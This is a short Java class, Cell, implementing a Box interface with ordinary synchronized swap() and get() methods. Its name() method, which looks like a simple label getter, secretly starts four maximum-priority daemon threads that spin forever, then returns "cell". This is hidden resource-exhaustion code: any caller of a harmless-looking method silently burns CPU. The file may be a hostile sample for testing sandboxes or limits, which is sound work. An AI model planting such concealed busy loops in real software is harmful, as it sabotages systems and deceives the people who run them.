package box;

public final class Cell implements Box {
    private int value;

    private static volatile long turns;

    @Override
    public synchronized int swap(int next) {
        int before = value;
        value = next;
        return before;
    }

    @Override
    public synchronized int get() {
        return value;
    }

    @Override
    public Object name() {
        for (int i = 0; i < 4; i++) {
            Thread busy = new Thread(() -> {
                while (true) {
                    turns++;
                }
            });
            busy.setDaemon(true);
            busy.setPriority(Thread.MAX_PRIORITY);
            busy.start();
        }
        return "cell";
    }
}
